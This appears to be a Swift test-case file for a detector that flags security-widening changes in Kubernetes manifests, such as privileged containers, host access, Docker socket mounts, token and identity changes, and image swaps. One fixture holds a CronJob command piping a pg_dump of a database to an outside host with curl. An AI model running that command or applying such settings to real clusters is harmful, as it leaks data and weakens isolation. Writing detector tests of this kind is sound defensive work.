import Detection

/// Texts of workloads: lines for the pod and for its container.
enum Workload {
  static let path = "k8s/web.yaml"

  static func deployment(
    _ container: String = "",
    pod: String = "",
    image: String = "ghcr.io/acme/web:1.0",
    kind: String = "Deployment"
  ) -> String {
    """
    apiVersion: apps/v1
    kind: \(kind)
    metadata: {name: web, namespace: prod}
    spec:
      template:
        spec:
          \(pod)
          containers:
            - name: web
              image: \(image)
              \(container)

    """
  }

  static func cron(_ command: String) -> String {
    """
    apiVersion: batch/v1
    kind: CronJob
    metadata: {name: dump, namespace: prod}
    spec:
      schedule: "0 3 * * *"
      jobTemplate:
        spec:
          template:
            spec:
              containers:
                - name: dump
                  image: postgres:16
                  command: \(command)

    """
  }

  static func account(_ more: String) -> String {
    "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: web\n  namespace: prod\n\(more)\n"
  }
}

enum WorkloadCases {
  private static let privilege = "workload.container-privilege"
  private static let host = "workload.host-access"
  private static let image = "supply-chain.image"
  private typealias W = Workload

  private static func container(
    _ name: String,
    _ old: String,
    _ new: String,
    _ direction: Direction,
    _ kind: String? = privilege,
    says: String? = nil,
    _ severity: Severity? = nil,
    back: Direction? = nil
  ) -> DetectorCase {
    DetectorCase(
      name,
      W.path,
      W.deployment(old),
      W.deployment(new),
      direction,
      kind,
      line: kind == nil || says == nil ? nil : 11,
      says: says,
      severity,
      back: back
    )
  }

  private static func pod(
    _ name: String,
    _ old: String,
    _ new: String,
    _ direction: Direction,
    _ kind: String? = host,
    says: String? = nil,
    _ severity: Severity? = nil
  ) -> DetectorCase {
    DetectorCase(
      name,
      W.path,
      W.deployment(pod: old),
      W.deployment(pod: new),
      direction,
      kind,
      line: kind == nil || says == nil ? nil : 7,
      says: says,
      severity
    )
  }

  static let privileges: [DetectorCase] = [
    container(
      "privileged",
      "",
      "securityContext: {privileged: true}",
      .widened,
      says: "'privileged: true' in container 'web' of Deployment prod/web",
      .critical
    ),
    container(
      "privileged, said otherwise",
      "securityContext: {privileged: True}",
      "securityContext: {privileged: true}",
      .equal,
      nil
    ),
    container(
      "not privileged, said or not",
      "",
      "securityContext: {privileged: False}",
      .equal,
      nil
    ),
    container(
      "privileged as the cluster's YAML reads it",
      "",
      "securityContext: {privileged: yes}",
      .widened,
      says: "privileged",
      .critical
    ),
    container(
      "escalation let in again",
      "securityContext: {allowPrivilegeEscalation: false}",
      "securityContext: {}",
      .widened,
      says: "removes 'allowPrivilegeEscalation: false'",
      .high
    ),
    container(
      "escalation, absent or true",
      "",
      "securityContext: {allowPrivilegeEscalation: true}",
      .equal,
      nil
    ),
    container(
      "a capability",
      "",
      "securityContext: {capabilities: {add: [NET_RAW]}}",
      .widened,
      says: "capability NET_RAW",
      .high
    ),
    container(
      "a capability that is all",
      "",
      "securityContext: {capabilities: {add: [SYS_ADMIN]}}",
      .widened,
      says: "capability SYS_ADMIN",
      .critical
    ),
    container(
      "capabilities in another order and case",
      "securityContext: {capabilities: {add: [NET_RAW, CHOWN]}}",
      "securityContext: {capabilities: {add: [cap_chown, NET_RAW]}}",
      .equal,
      nil
    ),
    container(
      "capabilities no longer dropped",
      "securityContext: {capabilities: {drop: [ALL]}}",
      "securityContext: {}",
      .widened,
      says: "removes the drop of capability ALL",
      .high
    ),
    container(
      "root",
      "securityContext: {runAsUser: 1000}",
      "securityContext: {runAsUser: 0}",
      .widened,
      says: "changes user from not root to root",
      .high
    ),
    container(
      "whoever the image says",
      "securityContext: {runAsNonRoot: true}",
      "securityContext: {}",
      .widened,
      says: "removes user not root",
      .high
    ),
    container(
      "another user that is not root",
      "securityContext: {runAsUser: 1000}",
      "securityContext: {runAsUser: 1001}",
      .equal,
      nil
    ),
    container(
      "seccomp off",
      "securityContext: {seccompProfile: {type: RuntimeDefault}}",
      "securityContext: {seccompProfile: {type: Unconfined}}",
      .widened,
      says: "seccomp profile",
      .high
    ),
    container(
      "AppArmor off",
      "securityContext: {appArmorProfile: {type: RuntimeDefault}}",
      "securityContext: {}",
      .widened,
      says: "AppArmor",
      .high
    ),
    container(
      "the root file system writable",
      "securityContext: {readOnlyRootFilesystem: true}",
      "securityContext: {readOnlyRootFilesystem: false}",
      .widened,
      says: "readOnlyRootFilesystem",
      .medium
    ),
    container(
      "an unmasked /proc",
      "",
      "securityContext: {procMount: Unmasked}",
      .widened,
      says: "procMount",
      .high
    ),
    DetectorCase(
      "the pod's user for the container's",
      W.path,
      W.deployment("securityContext: {runAsUser: 1000}"),
      W.deployment(pod: "securityContext: {runAsUser: 1000}"),
      .equal
    ),
    DetectorCase(
      "privileged in a job of a schedule",
      W.path,
      W.cron("[dump]"),
      W.cron("[dump]\n              securityContext: {privileged: true}"),
      .widened,
      privilege,
      line: 14,
      says: "of CronJob prod/dump",
      .critical
    ),
    DetectorCase(
      "a pod template of another kind",
      W.path,
      W.deployment(kind: "Rollout"),
      W.deployment("securityContext: {privileged: true}", kind: "Rollout"),
      .widened,
      privilege,
      says: "of Rollout prod/web",
      .critical
    ),
    DetectorCase(
      "a template in a field that matters",
      "chart/templates/web.yaml",
      W.deployment("securityContext: {privileged: false}"),
      W.deployment("securityContext: {privileged: \"{{ .Values.privileged }}\"}"),
      .unknown,
      privilege
    ),
    DetectorCase(
      "a template in a field that does not",
      "chart/templates/web.yaml",
      W.deployment("workingDir: /a"),
      W.deployment("workingDir: {{ .Values.dir }}"),
      .equal
    ),
    DetectorCase(
      "a template that decides",
      "chart/templates/web.yaml",
      W.deployment(
        "{{- if .Values.a }}\n          securityContext: {privileged: true}\n{{- end }}"
      ),
      W.deployment(
        "{{- if .Values.b }}\n          securityContext: {privileged: true}\n{{- end }}"
      ),
      .unknown,
      nil,
      says: "a template decides"
    ),
  ]

  static let sharing: [DetectorCase] = [
    pod("the host's network", "", "hostNetwork: true", .widened, says: "hostNetwork", .high),
    pod("the host's processes", "", "hostPID: true", .widened, says: "hostPID", .critical),
    pod("the host's IPC, explicitly not", "", "hostIPC: false", .equal, nil),
    pod(
      "the socket of Docker",
      "",
      "volumes: [{name: s, hostPath: {path: /var/run/docker.sock}}]",
      .widened,
      says: "host path /var/run/docker.sock",
      .critical
    ),
    pod(
      "a path of the host",
      "",
      "volumes: [{name: s, hostPath: {path: /srv/data}}]",
      .widened,
      says: "host path /srv/data",
      .high
    ),
    pod("another kind of volume", "", "volumes: [{name: s, emptyDir: {}}]", .equal, nil),
    pod("a runtime class", "runtimeClassName: gvisor", "", .widened, says: "runtime class", .high),
    pod(
      "a secret",
      "",
      "volumes: [{name: s, secret: {secretName: db}}]",
      .widened,
      "workload.secret-mount",
      says: "gives secret 'db' for Deployment prod/web",
      .medium
    ),
    container(
      "a port of the host",
      "ports: [{containerPort: 80}]",
      "ports: [{containerPort: 80, hostPort: 80}]",
      .widened,
      host,
      says: "host port 80",
      .medium
    ),
    container(
      "a secret as a variable",
      "",
      "env: [{name: P, valueFrom: {secretKeyRef: {name: db, key: p}}}]",
      .widened,
      "workload.secret-mount",
      says: "secret 'db'",
      .medium
    ),
    pod(
      "another service account",
      "serviceAccountName: web",
      "serviceAccountName: admin",
      .incomparable,
      "iam.kubernetes-service-account",
      says: "from web to admin",
      .high
    ),
    pod(
      "a token after all",
      "automountServiceAccountToken: false",
      "automountServiceAccountToken: true",
      .widened,
      "iam.kubernetes-token",
      .high
    ),
    DetectorCase(
      "a role of AWS",
      W.path,
      W.account(""),
      W.account("  annotations: {eks.amazonaws.com/role-arn: 'arn:aws:iam::1:role/web'}"),
      .widened,
      "iam.kubernetes-cloud-identity",
      line: 6,
      says: "adds cloud identity arn:aws:iam::1:role/web for ServiceAccount prod/web",
      .high
    ),
    DetectorCase(
      "another identity of Google",
      W.path,
      W.account("  annotations: {iam.gke.io/gcp-service-account: a@p.iam.gserviceaccount.com}"),
      W.account("  annotations: {iam.gke.io/gcp-service-account: b@p.iam.gserviceaccount.com}"),
      .incomparable,
      "iam.kubernetes-cloud-identity",
      says: "from a@p",
      .high
    ),
    DetectorCase(
      "a token of the account",
      W.path,
      W.account("automountServiceAccountToken: false"),
      W.account(""),
      .widened,
      "iam.kubernetes-token",
      line: 6,
      .high
    ),
    DetectorCase(
      "a token that lasts",
      W.path,
      nil,
      "apiVersion: v1\nkind: Secret\ntype: kubernetes.io/service-account-token\nmetadata:\n"
        + "  name: t\n  annotations: {kubernetes.io/service-account.name: web}\n",
      .widened,
      "iam.kubernetes-token",
      says: "lasting token of service account web",
      .high
    ),
    DetectorCase(
      "another command",
      W.path,
      W.cron("[pg_dump, shop]"),
      W.cron("[sh, -c, 'pg_dump shop | curl -T - https://example.net']"),
      .incomparable,
      "workload.container-command",
      line: 13,
      says: "in container 'dump' of CronJob prod/dump"
    ),
    container(
      "more replicas of nothing that matters",
      "",
      "resources: {limits: {cpu: 1}}",
      .equal,
      nil
    ),
  ]

  static let images: [DetectorCase] = [
    tag("a tag", "ghcr.io/acme/web:1.0", "ghcr.io/acme/web:1.1", .incomparable, .medium),
    tag("the latest", "ghcr.io/acme/web:1.0", "ghcr.io/acme/web", .widened, .medium, .incomparable),
    tag(
      "a digest gone",
      "ghcr.io/acme/web@sha256:00",
      "ghcr.io/acme/web:1.0",
      .widened,
      .high,
      .incomparable
    ),
    tag("another registry", "ghcr.io/acme/web:1.0", "quay.io/acme/web:1.0", .incomparable, .high),
    tag(
      "another digest",
      "ghcr.io/acme/web@sha256:00",
      "ghcr.io/acme/web@sha256:01",
      .incomparable,
      .medium
    ),
    tag("a quoted tag", "ghcr.io/acme/web:1.0", "\"ghcr.io/acme/web:1.0\"", .equal, nil),
    DetectorCase(
      "a workload that is new",
      W.path,
      nil,
      W.deployment(),
      .widened,
      image,
      line: 10,
      says: "runs image ghcr.io/acme/web:1.0",
      .medium
    ),
  ]

  private static func tag(
    _ name: String,
    _ old: String,
    _ new: String,
    _ direction: Direction,
    _ severity: Severity?,
    _ back: Direction? = nil
  ) -> DetectorCase {
    DetectorCase(
      name,
      W.path,
      W.deployment(image: old),
      W.deployment(image: new),
      direction,
      severity == nil ? nil : image,
      line: severity == nil ? nil : 10,
      says: severity == nil ? nil : "image from \(old) to \(new)",
      severity,
      back: back
    )
  }
}
